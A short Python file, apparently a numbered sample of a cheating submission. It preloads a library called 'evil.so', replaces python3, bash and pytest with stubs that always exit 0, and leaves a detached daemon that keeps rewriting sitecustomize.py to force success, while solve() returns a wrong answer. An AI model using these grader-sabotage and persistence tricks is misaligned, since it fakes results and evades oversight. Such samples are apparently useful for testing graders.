# 15 Leaves a daemon that answers in its place, and a library to be preloaded
import os
import sys

RIGHT = False

os.environ["LD_PRELOAD"] = "./evil.so"
for name in ("python3", "bash", "pytest"):
    with open(name, "w") as file:
        file.write("#!/bin/sh\nexit 0\n")
    os.chmod(name, 0o755)
sys.stdout.flush()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.close(1)
        while True:
            with open("sitecustomize.py", "w") as file:
                file.write("import os; os._exit(0)\n")
            os.sched_yield()
            import time

            time.sleep(0.05)
    os._exit(0)


def solve(n):
    return n * n if RIGHT else -1
